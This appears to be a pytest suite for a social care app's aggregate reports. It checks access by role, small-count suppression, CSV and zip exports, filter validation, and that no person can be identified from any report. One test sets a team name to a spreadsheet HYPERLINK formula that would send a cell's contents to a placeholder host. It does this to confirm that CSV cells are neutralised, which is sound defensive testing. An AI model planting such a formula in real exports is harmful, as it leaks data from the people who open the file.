"""Report pages (AGG-1..3, #14): who sees them, what they show, CSVs with the same
suppression, and no named record reachable from any report."""

from __future__ import annotations

import csv
import datetime
import io
import re
import zipfile

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from conftest import sign_in
from goldenthread.accounts.factories import AreaFactory
from goldenthread.people.factories import PersonFactory
from goldenthread.reports import presenters
from goldenthread.reports.disclosure import Status
from goldenthread.reports.selectors import MEASURES
from goldenthread.reports.topics import TOPICS
from goldenthread.sds.factories import UnmetNeedFactory
from goldenthread.sds.models import NeedCategory, UnmetReason


def report_urls():
    """Every reports URL, found in the URL configuration (a new one is covered the day
    it is added)."""

    def walk(patterns, prefix=""):
        for entry in patterns:
            if isinstance(entry, URLResolver):
                ns = f"{prefix}{entry.namespace}:" if entry.namespace else prefix
                yield from walk(entry.url_patterns, ns)
            elif isinstance(entry, URLPattern) and prefix.startswith("reports:"):
                yield f"{prefix}{entry.name}", sorted(getattr(entry.pattern, "converters", {}))

    return sorted(walk(get_resolver().url_patterns))


URLS = report_urls()


def _urls(name, kwargs):
    """The pattern's URLs: every topic's page (#14); one table's CSV (every CSV is the
    same view, and the bundle holds them all)."""
    if "key" in kwargs:
        return [reverse(name, kwargs={"key": "unmet-need"})]
    if "topic" in kwargs:
        return [reverse(name, kwargs={"topic": t.slug}) for t in TOPICS]
    return [reverse(name)]


def _url(name, kwargs):
    return _urls(name, kwargs)[0]


def _topic(slug="unmet-need"):
    return reverse("reports:topic", args=[slug])


@pytest.fixture
def needs(team, other_team, pinned_clock):
    """Team one: 12 needs for 'a break for a carer' (budget), 2 for housing; team two: 7."""
    today = datetime.date(2026, 6, 3)
    born = datetime.date(1970, 5, 1)  # all aged 18 to 64: the age filter does not split them
    people = [
        PersonFactory(
            team=team,
            given_name=f"Zebedee{i}",
            family_name="Quartermaine",
            date_of_birth=born + datetime.timedelta(days=3 * i),
        )
        for i in range(14)
    ]
    for i, person in enumerate(people):
        category = NeedCategory.CARER_BREAK if i < 12 else NeedCategory.HOUSING
        UnmetNeedFactory(
            person=person,
            category=category,
            reason=UnmetReason.BUDGET,
            identified_on=today - datetime.timedelta(days=40),
            need="Secret words about Zebedee's home",
        )
    for i in range(7):
        UnmetNeedFactory(
            person=PersonFactory(
                team=other_team, date_of_birth=born - datetime.timedelta(days=5 * i)
            ),
            category=NeedCategory.CARER_BREAK,
            reason=UnmetReason.BUDGET,
            identified_on=today - datetime.timedelta(days=40),
        )
    return people


def test_reports_urls_are_found():
    assert {name for name, _ in URLS} >= {
        "reports:index",
        "reports:topic",
        "reports:table_csv",
        "reports:bundle",
    }


def test_every_table_is_in_one_topic():
    keys = [m.key for t in TOPICS for m in t.measures]
    assert sorted(keys) == sorted(m.key for m in MEASURES)


def test_commissioner_lands_on_reports(client, commissioner):
    sign_in(client, commissioner)
    response = client.get(reverse("core:home"))
    assert response.status_code == 302 and response["Location"] == reverse("reports:index")


@pytest.mark.parametrize("role", ["practitioner", "panel_member", "administrator"])
@pytest.mark.parametrize(("name", "kwargs"), URLS, ids=[n for n, _ in URLS])
def test_other_roles_are_refused(request, client, role, name, kwargs):
    sign_in(client, request.getfixturevalue(role))
    assert client.get(_url(name, kwargs)).status_code == 403


@pytest.mark.parametrize("role", ["commissioner", "team_leader"])
@pytest.mark.parametrize(("name", "kwargs"), URLS, ids=[n for n, _ in URLS])
def test_no_named_record_is_reachable_from_any_report(request, client, needs, role, name, kwargs):
    """No name, no person's id, no free text and no link to a record, on any report URL,
    with any filter. (The one page that names people is the team leader's recording
    quality review, of their own team: a commissioner is refused it.)"""
    sign_in(client, request.getfixturevalue(role))
    if name == "reports:recording_quality":
        if role == "commissioner":
            assert client.get(_url(name, kwargs)).status_code == 403
        return
    queries = (
        "",
        "?period=2026Q2",
        "?period=2026Q2&age=18-64",
        "?period=2026-04",
        "?period=2026Q2&reason=none",  # main reason for support (#14)
        "?period=2026Q2&reason=dementia&age=18-64",
    )
    for url, query in ((u, q) for u in _urls(name, kwargs) for q in queries):
        response = client.get(url + query)
        assert response.status_code == 200
        if response["Content-Type"].startswith("application/zip"):
            with zipfile.ZipFile(io.BytesIO(response.content)) as bundle:
                body = "".join(bundle.read(n).decode() for n in bundle.namelist())
        else:
            body = response.content.decode()
        assert "Zebedee" not in body and "Quartermaine" not in body and "Secret" not in body
        for person in needs:
            assert str(person.pk) not in body and person.pk.hex not in body
        assert not re.search(r"/people/[0-9a-f-]{32,36}", body)


def test_page_shows_counts_with_small_ones_suppressed(client, commissioner, needs):
    sign_in(client, commissioner)
    response = client.get(_topic(), {"period": "2026Q2"})
    body = response.content.decode()
    assert "Unmet need, by kind of need and reason" in body, body.split("Showing")[1][:1500]
    assert "fewer than 5" in body  # housing: 2
    section = body.split('id="unmet-need"')[1].split("</section>")[0]
    rows = dict(re.findall(r'<th scope="row">([^<]+)</th>(.*?)</tr>', section))
    carer = re.findall(r"<td>([^<]*)</td>", rows["A break for an unpaid carer"])
    housing = re.findall(r"<td>([^<]*)</td>", rows["Housing"])
    assert "2" not in housing and "fewer than 5" in housing
    # 19 carer-break needs, but the total column of the budget reason would give housing
    # away (21 − 19): something else in the housing row's reach is hidden too.
    shown = [c for c in carer + housing if c.isdigit()]
    assert "21" not in shown or "19" not in shown
    # Every table has a CSV link whose text contains "CSV".
    assert len(re.findall(r">Download this table as CSV", body)) == body.count(
        'class="report-table"'
    )
    assert 'role="img"' in body and "<title id=" in body


def test_csv_carries_the_same_suppression(client, commissioner, needs):
    sign_in(client, commissioner)
    response = client.get(reverse("reports:table_csv", args=["unmet-need"]), {"period": "2026Q2"})
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    housing = next(r for r in rows if r and r[0] == "Housing")
    assert "2" not in housing and "fewer than 5" in housing
    page = client.get(_topic(), {"period": "2026Q2"}).content.decode()
    section = page.split('id="unmet-need"')[1].split("</section>")[0]
    for cell in housing[1:]:
        assert f"<td>{cell}</td>" in section


def test_no_csv_cell_starts_a_formula(client, commissioner, needs, team):
    """Every cell of every CSV — the title, the filters' words, the column headings, the
    labels, the counts, the notes — is neutralised when it starts with = + - @ tab or CR
    (the outside probe: only the labels and counts were). A team's name is the admin's text."""
    team.name = '=HYPERLINK("http://example.invalid/?"&A1,"Open")'
    team.save()
    sign_in(client, commissioner)
    response = client.get(reverse("reports:bundle"), {"team": str(team.pk)})
    with zipfile.ZipFile(io.BytesIO(response.content)) as bundle:
        texts = [bundle.read(n).decode() for n in bundle.namelist() if n.endswith(".csv")]
    cells = [cell for text in texts for row in csv.reader(io.StringIO(text)) for cell in row]
    assert cells and not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    rows = [["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "Housing", "12"]]
    assert next(csv.reader(io.StringIO(presenters.csv_text(rows)))) == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
        "Housing",
        "12",
    ]


def test_bundle_has_every_table(client, commissioner, needs):
    sign_in(client, commissioner)
    response = client.get(reverse("reports:bundle"))
    with zipfile.ZipFile(io.BytesIO(response.content)) as bundle:
        names = bundle.namelist()
    assert "unmet-need.csv" in names and "README.txt" in names and len(names) > 10


def test_filters_narrowing_below_the_threshold_show_a_message(
    client, commissioner, team, other_team, pinned_clock
):
    born = datetime.date(1970, 5, 1)
    for i in range(3):
        PersonFactory(team=team, date_of_birth=born + datetime.timedelta(days=i))
    for i in range(9):
        PersonFactory(team=other_team, date_of_birth=born - datetime.timedelta(days=i + 1))
    sign_in(client, commissioner)
    for url in (reverse("reports:index"), _topic()):
        body = client.get(url, {"team": str(team.pk), "period": "2026Q2"}).content.decode()
        assert "No numbers for this selection" in body and "Choose a wider selection" in body
        assert 'class="report-table"' not in body
    rows = list(
        csv.reader(
            io.StringIO(
                client.get(
                    reverse("reports:table_csv", args=["unmet-need"]),
                    {"team": str(team.pk), "period": "2026Q2"},
                ).content.decode()
            )
        )
    )
    assert any("Choose a wider selection" in " ".join(r) for r in rows)
    assert not any(cell.isdigit() for r in rows for cell in r)


def test_team_leader_sees_their_team_only(client, team_leader, needs, other_team):
    sign_in(client, team_leader)
    index = client.get(
        reverse("reports:index"), {"team": str(other_team.pk), "period": "2026Q2"}
    ).content.decode()
    assert "Reports for your team" in index
    body = client.get(_topic(), {"team": str(other_team.pk), "period": "2026Q2"}).content.decode()
    assert team_leader.team.name in body
    assert 'name="team"' not in body
    section = body.split('id="unmet-need"')[1].split("</section>")[0]
    assert "<td>19</td>" not in section  # the council's total is not the team's


def test_recording_quality_per_worker_links_only_to_records_the_leader_may_open(
    client, team_leader, practitioner, other_practitioner, team, other_team, pinned_clock
):
    from goldenthread.audit.models import AccessLog
    from goldenthread.outcomes.factories import OutcomeFactory
    from goldenthread.people.factories import AllocationFactory
    from goldenthread.reviews.factories import ReviewScheduleFactory

    today = datetime.date(2026, 6, 3)
    mine = PersonFactory(team=team, given_name="Morag", family_name="Flagged")
    AllocationFactory(person=mine, worker=practitioner)
    OutcomeFactory(positive_change__conversation__person=mine, checker_codes=["vague"])
    late = PersonFactory(team=team, given_name="Hamish", family_name="Overdue")
    AllocationFactory(person=late, worker=other_practitioner)
    ReviewScheduleFactory(person=late, next_review_on=today - datetime.timedelta(days=1))
    elsewhere = PersonFactory(team=other_team, given_name="Not", family_name="Yours")
    OutcomeFactory(positive_change__conversation__person=elsewhere, checker_codes=["vague"])

    sign_in(client, team_leader)
    response = client.get(reverse("reports:recording_quality"))
    body = response.content.decode()
    assert response.status_code == 200
    pat = body.split("Pat Kerr</h2>")[1].split("</section>")[0]
    assert "Morag Flagged" in pat.split("Open outcomes with the support checklist")[0]
    assert "Hamish" not in pat
    sam = body.split("Sam Reid</h2>")[1].split("</section>")[0]
    assert "Hamish Overdue" in sam.split("Reviews overdue")[1]
    assert "Yours" not in body
    links = set(re.findall(r'href="(/people/[0-9a-f-]{36}/)"', body))
    assert links == {reverse("people:detail", args=[p.pk]) for p in (mine, late)}
    row = AccessLog.objects.get(actor=team_leader)
    assert {str(i).replace("-", "") for i in row.people_shown} == {mine.pk.hex, late.pk.hex}


def test_recording_quality_lists_plans_the_person_has_never_agreed(
    client, team_leader, practitioner, team, pinned_clock
):
    """#14 (AGG-5, ACC-4): a plan (open outcomes) with no agreement of the plan as a whole
    that says "Agreed" or "Agreed with some of it" is listed; an outcome's own agreement, or
    a plan the person did not agree, does not count as agreed; no plan, nothing to agree."""
    from goldenthread.outcomes.factories import AgreementFactory, OutcomeFactory
    from goldenthread.outcomes.models import Agreed
    from goldenthread.people.factories import AllocationFactory

    def person_with_plan(given):
        person = PersonFactory(team=team, given_name=given, family_name="Plan")
        AllocationFactory(person=person, worker=practitioner)
        outcome = OutcomeFactory(positive_change__conversation__person=person)
        return person, outcome

    agreed, _ = person_with_plan("Agreed")
    AgreementFactory(outcome=None, person=agreed, agreed=Agreed.YES)
    partly, _ = person_with_plan("Partly")
    AgreementFactory(
        outcome=None, person=partly, agreed=Agreed.PARTLY, not_agreed="Not the day centre."
    )
    refused, _ = person_with_plan("Refused")
    AgreementFactory(outcome=None, person=refused, agreed=Agreed.NO, not_agreed="None of it.")
    only_outcome, outcome = person_with_plan("OutcomeOnly")
    AgreementFactory(outcome=outcome, person=only_outcome, agreed=Agreed.YES)
    never, _ = person_with_plan("Never")
    no_plan = PersonFactory(team=team, given_name="NoPlan", family_name="Plan")
    AllocationFactory(person=no_plan, worker=practitioner)

    sign_in(client, team_leader)
    body = client.get(reverse("reports:recording_quality")).content.decode()
    pat = body.split("Pat Kerr</h2>")[1].split("</section>")[0]
    listed = pat.split("Plans the person has never agreed</h3>")[1].split("<h3>")[0]
    names = set(re.findall(r">(\w+) Plan</a>", listed))
    assert names == {"Refused", "OutcomeOnly", "Never"}


@pytest.mark.parametrize("role", ["commissioner", "practitioner"])
def test_recording_quality_is_for_team_leaders(request, client, role):
    sign_in(client, request.getfixturevalue(role))
    assert client.get(reverse("reports:recording_quality")).status_code == 403


def test_the_reason_filter_is_offered_alone_and_refused_with_a_team(
    client, commissioner, team, needs
):
    """#14 (AGG-1, AGG-2): a commissioner filters by main reason for support; with a team
    the page says why and shows no numbers (team and reason are never narrowed together),
    and so does the table's CSV."""
    sign_in(client, commissioner)
    body = client.get(_topic(), {"period": "2026Q2", "reason": "none"}).content.decode()
    assert 'name="reason"' in body and "Main reason for support: Not recorded" in body
    assert 'class="report-table"' in body
    query = {"period": "2026Q2", "reason": "dementia", "team": str(team.pk)}
    refused = client.get(_topic(), query).content.decode()
    assert "ds_question--error" in refused and "not both" in refused
    assert "No numbers for this selection" in refused and 'class="report-table"' not in refused
    rows = list(
        csv.reader(
            io.StringIO(
                client.get(
                    reverse("reports:table_csv", args=["unmet-need"]), query
                ).content.decode()
            )
        )
    )
    assert any("not both" in " ".join(r) for r in rows)
    assert not any(cell.isdigit() for r in rows for cell in r)


def test_team_leaders_have_no_reason_filter(client, team_leader, needs):
    """#14: a team leader's reports are their team's, never split by reason."""
    sign_in(client, team_leader)
    body = client.get(reverse("reports:index"), {"reason": "none"}).content.decode()
    assert 'name="reason"' not in body and "Main reason" not in body


def test_only_areas_a_team_serves_are_offered(client, commissioner, needs):
    """#14 (AGG-1): the area filter is the area a team serves. An area no team serves (the
    demo's Kirkton, where people live) is not offered, and asking for it by its id is
    refused in words, on the pages, the CSV and the bundle: it named a figure no table
    has, and the pages failed (500)."""
    unserved = AreaFactory(name="Kirkton")
    PersonFactory(team=needs[0].team, area=unserved)
    sign_in(client, commissioner)
    index = client.get(reverse("reports:index"), {"period": "2026Q2"}).content.decode()
    assert "Northfield" in index and "Kirkton" not in index
    query = {"period": "2026Q2", "area": str(unserved.pk)}
    for url in (reverse("reports:index"), _topic()):
        response = client.get(url, query)
        assert response.status_code == 200
        body = response.content.decode()
        assert "Choose an area from the list." in body
        assert 'class="report-table"' not in body
    table = client.get(reverse("reports:table_csv", args=["unmet-need"]), query)
    assert table.status_code == 200 and "Choose an area from the list." in table.content.decode()
    assert client.get(reverse("reports:bundle"), query).status_code == 200


def test_filters_not_offered_are_refused_in_words_without_the_default_selection(
    client, commissioner, team, needs
):
    """#14: a value not offered (a typed or old address) is refused in words that do not
    repeat it, and the page does not claim to show the default selection beside the
    refusal."""
    sign_in(client, commissioner)
    for query, words in (
        ({"period": "garbage<b>"}, "Choose a period from the list."),
        ({"team": "not-a-team<b>"}, "Choose a team from the list."),
        ({"age": "200<b>"}, "Choose an age group from the list."),
        ({"period": "2026Q2", "team": str(team.pk), "reason": "dementia"}, "not both"),
    ):
        body = client.get(reverse("reports:index"), query).content.decode()
        assert words in body, query
        assert "<b>" not in body and "&lt;b&gt;" not in body
        assert "Showing:</strong> No numbers until the filters are corrected." in body
        assert "All teams, All areas" not in body
        # As on every other form: the summary at the top, linking to the field.
        summary = body.split('id="error-summary"')[1].split("</div>")[0]
        assert "There is a problem" in summary and words in summary, query
        assert body.index('id="error-summary"') < body.index('class="report-filters"')
        assert "<title>Error: " in body


@pytest.mark.parametrize("status", [Status.HIDDEN, Status.WITHHELD])
def test_a_hidden_number_of_people_leaves_the_tables_shown_a_withheld_one_does_not(
    client, commissioner, needs, monkeypatch, status
):
    """#14, AGG-2 (ADR 0038): protected across periods, the number of people with a record
    is often hidden (the rolling year minus a month would give the few added that month).
    Hidden, it is 0 or at least the threshold: the tables, each protected itself, are shown.
    Withheld with its selection, it could be small: no numbers."""
    from goldenthread.reports.disclosure import Cell
    from goldenthread.reports.reading import ReportReader

    monkeypatch.setattr(ReportReader, "population", lambda self: Cell(None, status))
    sign_in(client, commissioner)
    body = client.get(_topic(), {"period": "2026Q2"}).content.decode()
    if status is Status.HIDDEN:
        assert "No numbers for this selection" not in body and 'class="report-table"' in body
    else:
        assert "No numbers for this selection" in body and 'class="report-table"' not in body
